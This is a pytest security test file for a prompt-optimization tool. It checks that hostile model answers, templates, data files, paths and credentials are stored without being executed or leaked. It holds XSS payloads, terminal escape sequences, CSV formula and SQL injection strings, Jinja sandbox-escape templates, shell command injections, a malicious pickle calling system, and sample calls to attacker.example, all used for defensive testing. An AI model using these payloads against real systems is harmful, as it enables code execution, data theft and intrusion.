"""What strangers may put into a model's answers, into data and into study files: nothing of it is executed, leaked or
lost. One whole study is run over the answers, and looked at through everything that shows them."""

from __future__ import annotations

import ast
import asyncio
import csv
import html.parser
import io
import json
import os
import re
import resource
import subprocess
import sys
import unicodedata
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas
import pytest

import genopt
from genopt.archive import load
from genopt.cli import main
from genopt.console import Console
from genopt.dashboard.live import Live
from genopt.dataset import load as load_data
from genopt.errors import GenoptError, SpecError
from genopt.prompt import Prompt
from genopt.types import Example, Generation, Request
from genopt.words import safe
from tests.commands import Shell, write_rows
from tests.studies import query, run
from tests.toy import ToyBackend, study


@pytest.fixture
def shell(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Shell:
    monkeypatch.setattr(sys, "path", list(sys.path))  # a study's folder is put on it
    monkeypatch.chdir(tmp_path)
    return Shell(tmp_path, monkeypatch, capsys)


# --- answers

ANSWERS = {
    "script": "<script>window.obeyed = 1</script>",
    "image handler": '<img src=x onerror="window.obeyed = 2">',
    "svg handler": "<svg/onload=alert(1)>",
    "frame": '<iframe srcdoc="<script>parent.obeyed=1</script>"></iframe>',
    "style": "<style>body{display:none}</style>",
    "end of script": "</script><script>alert(1)</script>",
    "end of comment": "--><script>alert(1)</script><!--",
    "javascript link": "[click](javascript:alert(1))",
    "tracking image": "![x](http://attacker.example/x.png?q=secret)",
    "fence": "```\n````\n<b>out</b>\n```",
    "table": "a | b |\n|---|---|\n<td>",
    "colour": "\x1b[31mred\x1b[0m",
    "screen": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "link escape": "\x1b]8;;http://attacker.example\x1b\\click\x1b]8;;\x1b\\",
    "C1 controls": "\x9b31mred \x90q\x9c",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "carriage return": "evil\rsafe",
    "bidi": "\u202egnp.exe \u2066x\u2069",
    "invisible": "a\u200bb\ufeffc\u00ad",
    "tags": "a\U000e0041\U000e0042",
    "NUL": "before\0after",
    "half a pair": "x\ud800y",
    "formula": '=HYPERLINK("http://attacker.example?"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+cmd|calc",
    "minus": "-2+3+cmd|calc",
    "tab formula": "\t=1+1",
    "template": "{{ 7 * 7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "format": "%s %n {0.__class__} $HOME `id` $(id)",
    "SQL": "'); DROP TABLE genopt_generations; --",
    "huge": "A" * 300_000,
    "JSON end": '"}], "verdict": "improved"',
}


class Attacked(ToyBackend):
    """The toy engine with an attack in each of its answers, another one for each example."""

    async def _answer(self, request: Request, better: float) -> Generation:
        done = await super()._answer(request, better)
        attack = list(ANSWERS.values())[int(request.example_id[1:]) % len(ANSWERS)]
        return Generation(attack + "\n" + done.text, "stop", 10, 5, 0.0)


class Seen:
    """Everything that shows the study to somebody, made once."""

    def __init__(self, folder: Path) -> None:
        table = study(folder, count=2 * len(ANSWERS), budget={"trials": 3})
        table["backend"] = {"kind": "tests.test_hostile:Attacked", "model": "toy"}
        table["scorers"] = {"right": {"kind": "contains"}}
        for n, row in enumerate(table["dataset"]["rows"]):
            row["question"] = f"{n} " + list(ANSWERS.values())[n % len(ANSWERS)].replace("\ud800", "")
        self.ran = run(table, folder)
        assert self.ran.error is None, self.ran.error
        self.where = f"sqlite:///{folder / 'toy.db'}#toy"
        self.stored = [text for (text,) in query(folder, "SELECT text FROM genopt_generations")]
        stream = io.StringIO()
        console = Console(stream)
        for event in self.ran.events:
            console(event)
        self.terminal = {"progress": stream.getvalue()}
        self.page = self._file(folder, "report", "-o", name="report.html")
        self.markdown = self._file(folder, "report", "-o", name="report.md")
        self._file(folder, "export", "--data", name="texts.csv")
        self._file(folder, "export", "--data", name="texts.jsonl")
        self._file(folder, "export", "--data", name="texts.parquet")
        for name, *arguments in (
            ("best", "best"), ("best json", "best", "--json"), ("trials", "trials"), ("jsonl", "trials", "--jsonl"),
            ("report", "report"), ("compare", "compare", "-n", "999"), ("compare json", "compare", "--json"),
        ):  # fmt: skip
            self.terminal[name] = _output(arguments[0], self.where, *arguments[1:])
        live = Live(self.where)
        live.refresh()
        attributes = live.attributes()
        self.notes = [str(value) for key, value in attributes.items() if "note_str" in key]
        self.folder = folder

    def _file(self, folder: Path, command: str, option: str, *, name: str) -> str:
        _output(command, self.where, option, str(folder / name))
        return "" if name.endswith(".parquet") else (folder / name).read_text(encoding="utf-8")


def _output(*arguments: str) -> str:
    """What a command writes to both streams. It has to succeed."""
    out, err = io.StringIO(), io.StringIO()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sys, "argv", ["genopt", *arguments])
        patch.setattr(sys, "stdout", out)
        patch.setattr(sys, "stderr", err)
        with pytest.raises(SystemExit) as ended:
            main()
    assert ended.value.code == 0, err.getvalue()
    return out.getvalue() + err.getvalue()


@pytest.fixture(scope="module")
def seen(tmp_path_factory: pytest.TempPathFactory) -> Seen:
    return Seen(tmp_path_factory.mktemp("seen"))


class Elements(html.parser.HTMLParser):
    """What a browser would make of a page: the tags, and the names of attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def controls(text: str) -> set[str]:
    """What a terminal would obey, or not show."""
    return {c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs")}


@pytest.mark.parametrize("name", ANSWERS)
def test_an_answer_is_kept_and_shown_and_never_obeyed(name: str, seen: Seen) -> None:
    attack = ANSWERS[name]
    kept = attack.replace("\0", "\ufffd").replace("\ud800", "?")
    assert [text for text in seen.stored if text.startswith(kept + "\n")], "the answer is stored as it was"
    lines = [json.loads(line)["text"] for line in (seen.folder / "texts.jsonl").read_text("utf-8").splitlines()]
    assert any(text.startswith(kept + "\n") for text in lines)
    assert any(text.startswith(kept + "\n") for text in pandas.read_parquet(seen.folder / "texts.parquet")["text"])
    for where, shown in seen.terminal.items():
        assert not controls(shown), f"{where} sends {controls(shown)!r} to the terminal"
    assert not controls(seen.page) and not controls(seen.markdown) and not controls("".join(seen.notes))
    if "<" in attack:
        assert attack not in seen.page


def test_a_page_holds_no_element_that_came_from_an_answer(seen: Seen) -> None:
    found = Elements(seen.page).found
    assert not [tag for tag, _ in found if tag in ("img", "iframe", "object", "embed", "base", "form", "link")]
    assert not [(tag, name) for tag, attributes in found for name in attributes if name.startswith("on")]
    links = [value or "" for _, attributes in found for key, value in attributes.items() if key in ("href", "src")]
    assert not [link for link in links if not link.startswith(("#", "data:"))]
    ours = Elements((Path(genopt.__file__).parent / "report/templates/page.html").read_text("utf-8")).found
    for tag in ("script", "style"):
        assert sum(t == tag for t, _ in found) == sum(t == tag for t, _ in ours)


def test_no_cell_of_a_csv_is_a_formula_and_every_text_is_there(seen: Seen) -> None:
    with (seen.folder / "texts.csv").open(encoding="utf-8", newline="") as file:
        csv.field_size_limit(2**30)
        rows = list(csv.reader(file))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
            if cell.startswith(("+", "-")):
                float(cell)
    assert len(rows) - 1 == len(seen.stored)


def test_a_text_for_people_to_label_has_no_way_to_speak_to_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    from genopt.cli._ask import show

    for attack in ANSWERS.values():
        show(attack, attack)
    captured = capsys.readouterr()
    assert not controls(captured.out + captured.err)


# --- templates

TEMPLATES = {
    "classes": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals of a function": "{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}",
    "attr filter": "{{ ''|attr('__class__') }}",
    "format string": "{{ '{0.__class__.__mro__}'.format('') }}",
    "namespace": "{{ namespace.__init__.__globals__ }}",
    "self": "{{ self._TemplateReference__context }}",
    "include": "{% include '/etc/passwd' %}",
    "import": "{% import 'os' as os %}",
    "mutation": "{{ question.append(1) }}{{ [].append(1) }}",
    "power": "{{ 9 ** 99999999 }}",
    "repetition": "{{ 'x' * 10000000000 }}",
    "lists": "{{ [0] * 10000000000 }}",
    "range": "{% for i in range(10000000000) %}x{% endfor %}",
    "padding": "{{ 'x'.ljust(10000000000) }}",
    "filter": "{{ 'x'|center(10000000000) }}",
    "percent": "{{ '%9999999999d' % 1 }}",
    "environment": "{{ environ }}{{ config }}{{ request }}",
}


@pytest.mark.parametrize("name", TEMPLATES)
def test_a_template_reaches_nothing_but_its_values(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CANARY_SECRET", "leaked")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(GenoptError) as told:
        prompt = Prompt.from_parts(user="{{ question }}" + TEMPLATES[name])
        prompt.render(Example("r", {"question": "?"}), {})
    assert "leaked" not in str(told.value) and "root:" not in str(told.value)
    assert not list(tmp_path.iterdir())
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 300_000  # kilobytes


# --- paths

SECRET = "top-secret-7f3a"


def linked(folder: Path, secret: Path) -> str:
    (folder / "link.jsonl").symlink_to(secret)
    return "link.jsonl"


def linked_folder(folder: Path, secret: Path) -> str:
    (folder / "sub").symlink_to(secret.parent)
    return f"sub/{secret.name}"


def circle(folder: Path, secret: Path) -> str:
    (folder / "round.jsonl").symlink_to(folder / "round.jsonl")
    return "round.jsonl"


PATHS: dict[str, tuple[str, Callable[[Path, Path], str]]] = {
    "data above": ("dataset.path", lambda folder, secret: f"../{secret.parent.name}/{secret.name}"),
    "data by an absolute path": ("dataset.path", lambda folder, secret: str(secret)),
    "data behind a link": ("dataset.path", linked),
    "data behind a linked folder": ("dataset.path", linked_folder),
    "data in the home folder": ("dataset.path", lambda folder, secret: f"~/{secret.name}"),
    "data in and out again": ("dataset.path", lambda folder, secret: f"./a/../../{secret.parent.name}/{secret.name}"),
    "data behind a circle": ("dataset.path", circle),
    "system prompt": ("prompt.system.file", lambda folder, secret: str(secret)),
    "user prompt": ("prompt.user.file", linked),
    "texts to choose from": ("space.style.files[1]", lambda folder, secret: str(secret)),
    "texts in a branch": ("space.how.a.style.files[0]", lambda folder, secret: str(secret)),
    "judge's template": ("scorers.judged.templates.user.file", linked),
    "schema": ("output.schema_.file", lambda folder, secret: str(secret)),
    "image": ("images", lambda folder, secret: str(secret.with_suffix(".png"))),
    "image behind a link": ("images", lambda folder, secret: linked(folder, secret)),
}


@pytest.mark.parametrize(
    ("command", "name"),
    [*(("check", name) for name in PATHS), ("optimize", "data above"), ("evaluate", "image"), ("evaluate", "schema")],
)
def test_a_study_file_reads_nothing_outside_its_folder(
    name: str, command: str, shell: Shell, tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    outside = tmp_path_factory.mktemp("outside")
    secret = outside / "secret.jsonl"
    write_rows(secret, [{"question": SECRET, "answer": "yes"}] * 40)
    secret.with_suffix(".png").write_text(SECRET)
    monkeypatch.setenv("HOME", str(outside))
    key, make = PATHS[name]
    path = make(shell.folder, secret)
    (shell.folder / "fine.txt").write_text("{{ question }}")
    table = shell.table()
    if key == "dataset.path":
        table["dataset"] = {"path": path, "holdout": 0.4}
    elif key.startswith("prompt"):
        table["prompt"] = {"user": "{{ question }}"} | {key.split(".")[1]: {"file": path}}
    elif key == "space.style.files[1]":
        table["space"] |= {"style": {"files": ["fine.txt", path]}}
    elif key.startswith("space.how"):
        table["space"] |= {"how": {"a": {"style": {"files": [path]}}, "b": {"style": "x"}}}
    elif key.startswith("scorers"):
        table["scorers"] = {"judged": {"kind": "judge", "rubric": "?", "templates": {"user": {"file": path}}}}
    elif key.startswith("output"):
        table["output"] = {"schema": {"file": path}}
    else:
        if "link" in path:
            (shell.folder / "cat.png").symlink_to(secret)
            path = "cat.png"
        rows = [{"id": f"r{n}", "question": "?", "answer": "yes", "photo": path} for n in range(24)]
        write_rows(shell.folder / "rows.jsonl", rows)
        table["dataset"] |= {"images": "photo"}
        table["backend"]["options"]["images"] = True
    ran = shell(command, shell.write(table))
    assert ran.code == 2 and ran.out == "" and not shell.requests
    assert ("outside" in ran.err and "--allow-outside" in ran.err) or "no path that can be followed" in ran.err
    assert path in ran.err and (key == "images" or key in ran.err)
    assert SECRET not in ran.err
    if (
        command == "check"
        and key == "dataset.path"
        and not name.startswith(("data behind a circle", "data in and out"))
    ):
        assert shell(command, shell.write(table), "--allow-outside").code == 0, "the user may allow it"
        inside = table | {"dataset": {"path": "rows.jsonl", "holdout": 0.4}}
        override = f"dataset.path={json.dumps(str(secret))}"
        assert shell(command, shell.write(inside), "--set", override).code == 0, "--set is the user's word"


def test_data_named_on_the_command_line_is_the_users_word(
    shell: Shell, tmp_path_factory: pytest.TempPathFactory
) -> None:
    other = tmp_path_factory.mktemp("elsewhere") / "rows.jsonl"
    write_rows(other, [{"id": f"n{n}", "question": "?", "answer": "yes"} for n in range(8)])
    assert shell("evaluate", shell.write(shell.table()), "--data", other).code == 0


# --- data

DEEP = 200_000


def parquet(frame: dict[str, Any]) -> bytes:
    buffer = io.BytesIO()
    pandas.DataFrame(frame).to_parquet(buffer)
    return buffer.getvalue()


GOOD = b'{"question": "a", "answer": "yes"}\n'
DATA: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "invalid UTF-8": ("rows.jsonl", lambda: GOOD + b'{"question": "\xff\xfe"}\n', "rows.jsonl:2"),
    "overlong UTF-8": ("rows.jsonl", lambda: GOOD + b'{"question": "\xc0\xaf"}\n', "rows.jsonl:2"),
    "UTF-16": ("rows.csv", lambda: "question,answer\na,b\n".encode("utf-16"), "UTF-16"),
    "deep lists": ("rows.jsonl", lambda: b"[" * DEEP + b"\n", "nested too deeply|JSON"),
    "deep objects": ("rows.json", lambda: b'{"a":' * DEEP, "nested too deeply|JSON"),
    "endless number": ("rows.jsonl", lambda: b'{"question": ' + b"9" * 100_000 + b"}\n", "rows.jsonl:1"),
    "half a pair": ("rows.jsonl", lambda: b'{"question": "\\ud800"}\n', "surrogate"),
    "no rows": ("rows.jsonl", lambda: b"\n\n", "rows.jsonl"),
    "zip as JSONL": ("rows.jsonl", lambda: b"PK\x03\x04" + bytes(range(256)) * 4, "rows.jsonl:1"),
    "zip as Parquet": ("rows.parquet", lambda: b"PK\x03\x04" + bytes(1000), "rows.parquet"),
    "torn Parquet": ("rows.parquet", lambda: parquet({"question": ["a"] * 99})[:300], "rows.parquet"),
    "pickle as Parquet": ("rows.parquet", lambda: b"\x80\x04cposix\nsystem\n(S'touch CANARY'\ntR.", "rows.parquet"),
}


@pytest.mark.parametrize("name", DATA)
def test_hostile_data_are_refused_in_words(name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    file, content, message = DATA[name]
    (tmp_path / file).write_bytes(content())
    with pytest.raises(SpecError) as told:
        load_data(path=file, folder=tmp_path)
    assert re.search(message, str(told.value)) and len(str(told.value)) < 2000
    assert not controls(safe(str(told.value))) and not (tmp_path / "CANARY").exists()


KEPT = {
    "a row of five megabytes": {"question": "x" * 5_000_000, "answer": "yes"},
    "NUL": {"question": "a\0b", "answer": "yes"},
    "a thousand columns": {f"c{n}": "x" for n in range(1000)} | {"question": "q", "answer": "yes"},
    "names that are code": {"__class__": "x", "{{ question }}": "y", "question": "q", "answer": "yes"},
    "not a number": {"question": "q", "answer": "yes", "score": float("nan")},
    "a template": {"question": "{{ 7 * 7 }}{% include 'x' %}", "answer": "yes"},
}


@pytest.mark.parametrize("name", KEPT)
def test_strange_rows_are_asked_as_they_are(name: str, tmp_path: Path) -> None:
    write_rows(tmp_path / "rows.jsonl", [KEPT[name]])
    data = load_data(path="rows.jsonl", folder=tmp_path)
    (message,) = Prompt.from_parts(user="{{ question }}").render(data.examples[0], {})
    assert message.content == KEPT[name]["question"]


# --- credentials and code

URLS = (
    "postgresql://me:geheim@127.0.0.1:9/x?sslmode=require",
    "postgresql+psycopg://me:ge%40heim@127.0.0.1:9/x",
    "postgresql://me:geheim@[::1]:9/x",
    "mysql+pymysql://me:geheim@127.0.0.1:9/x",
)


@pytest.mark.parametrize("url", URLS)
def test_a_password_is_in_no_message_and_no_traceback(url: str, shell: Shell) -> None:
    ran = shell("optimize", shell.write(shell.table(storage=url)), "--wait", "0")
    assert ran.code in (1, 2) and "heim" not in ran.out + ran.err
    if url != URLS[0]:
        return  # a process of its own for one of them
    environment = {**os.environ, "PYTHONPATH": str(Path(genopt.__file__).parent.parent)}
    command = [sys.executable, "-m", "genopt", "--debug", "optimize", "study.toml", "--wait", "0"]
    told = subprocess.run(command, cwd=shell.folder, env=environment, capture_output=True, text=True, check=False)
    assert told.returncode != 0 and "heim" not in told.stdout + told.stderr


def test_a_key_is_in_no_message_no_file_and_no_traceback(shell: Shell, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("STUDY_KEY", "sk-geheim")
    options = {"base_url": "http://127.0.0.1:9/v1", "api_key_env": "STUDY_KEY", "patience": 0.1}
    study_file = shell.write(shell.table(backend={"kind": "openai", "model": "m", "options": options}))
    ran = shell("optimize", study_file)
    environment = {**os.environ, "PYTHONPATH": str(Path(genopt.__file__).parent.parent)}
    command = [sys.executable, "-m", "genopt", "--debug", "optimize", "study.toml"]
    told = subprocess.run(command, cwd=shell.folder, env=environment, capture_output=True, text=True, check=False)
    said = ran.out + ran.err + told.stdout + told.stderr
    said += "".join(p.read_bytes().decode("latin-1") for p in shell.folder.rglob("*") if p.is_file())
    assert ran.code and told.returncode and "geheim" not in said


@pytest.mark.parametrize("option", ["api_key", "hf_token", "token"])
def test_a_key_in_a_study_file_is_refused(option: str, shell: Shell) -> None:
    kind = "vllm" if option == "hf_token" else "openai"
    table = shell.table(backend={"kind": kind, "model": "m", "options": {option: "sk-geheim"}})
    ran = shell("check", shell.write(table))
    assert ran.code == 2 and option in ran.err and "geheim" not in ran.err


def test_code_beside_a_study_runs_only_when_the_study_names_it_and_check_says_so(shell: Shell) -> None:
    canary = f"import pathlib; pathlib.Path({str(shell.folder / 'CANARY')!r}).touch()"
    for name in ("sitecustomize", "conftest", "numpy", "scorer", "json"):
        (shell.folder / f"{name}.py").write_text(f"{canary}\ndef score(example, text): return 1.0\n")
    named = shell.table()
    quiet = shell("check", shell.write(named), "--json")
    assert quiet.code == 0 and not (shell.folder / "CANARY").exists()
    assert quiet.json["code"] == ["backend.kind: tests.toy:ToyBackend"]
    named["scorers"] = {"mine": {"kind": "scorer:score"}}
    told = shell("check", shell.write(named))
    assert told.code == 0 and (shell.folder / "CANARY").exists()
    assert "Code       scorers.mine.kind: scorer:score" in told.out


def test_check_says_where_rows_and_keys_are_sent(shell: Shell) -> None:
    table = shell.table()
    table["backend"]["options"] |= {"base_url": "https://attacker.example/v1", "api_key_env": "AWS_SECRET"}
    ran = shell("check", shell.write(table))
    assert "about to ask backend: https://attacker.example/v1, with the value of AWS_SECRET" in ran.err
    assert "Network    backend: https://attacker.example/v1, with the value of AWS_SECRET" in ran.out


def test_a_line_for_the_shell_runs_nothing_but_itself() -> None:
    from genopt.export.texts import _plain

    for attack in ("$(touch CANARY)", "`id`", '"; id; "', "a\\", "!!"):
        line = f'printf %s "{_plain(attack)}"'
        assert subprocess.run(["sh", "-c", line], capture_output=True, text=True, check=True).stdout in (
            attack, attack.replace("!", "\\!"),
        )  # fmt: skip


def test_nothing_of_genopt_reads_pickles_or_evaluates_text() -> None:
    banned = {"pickle", "cloudpickle", "dill", "marshal", "shelve", "joblib", "jsonpickle"}
    for path in Path(genopt.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import):
                assert not {alias.name.split(".")[0] for alias in node.names} & banned, path
            elif isinstance(node, ast.ImportFrom):
                assert (node.module or "").split(".")[0] not in banned, path
            elif isinstance(node, ast.Call):
                called = node.func.id if isinstance(node.func, ast.Name) else getattr(node.func, "attr", "")
                owner = getattr(getattr(node.func, "value", None), "id", "")
                if isinstance(node.func, ast.Name):
                    assert called not in ("eval", "exec"), f"{path}:{node.lineno}"
                assert called != "read_pickle", f"{path}:{node.lineno}"
                assert (owner, called) not in (("torch", "load"), ("numpy", "load"), ("os", "system")), path
                keywords = {k.arg: k.value for k in node.keywords}
                for risky in ("shell", "allow_pickle"):
                    assert risky not in keywords, f"{path}:{node.lineno}"
                if "verify" in keywords:  # TLS is verified: never switched off
                    assert not isinstance(keywords["verify"], ast.Constant), f"{path}:{node.lineno}"


def test_the_dashboard_listens_on_this_machine_alone_unless_told() -> None:
    from genopt.cli.show import dashboard

    host = next(option for option in dashboard.params if option.name == "host")
    assert host.default in ("127.0.0.1", "localhost")


def test_the_study_of_a_hostile_name_is_listed_without_obeying_it(tmp_path: Path) -> None:
    name = "\x1b[2Jevil\u202e<script>"
    table = study(tmp_path, count=40, name=name, budget={"trials": 1})
    from genopt.runner import optimize_async
    from genopt.spec.read import make_study

    asyncio.run(optimize_async(make_study(table, folder=tmp_path)))
    url = f"sqlite:///{tmp_path / 'toy.db'}"
    assert load(f"{url}#{name}").name == name
    for arguments in (("studies", "list", url), ("report", f"{url}#{name}"), ("best", f"{url}#{name}", "--json")):
        assert not controls(_output(*arguments))
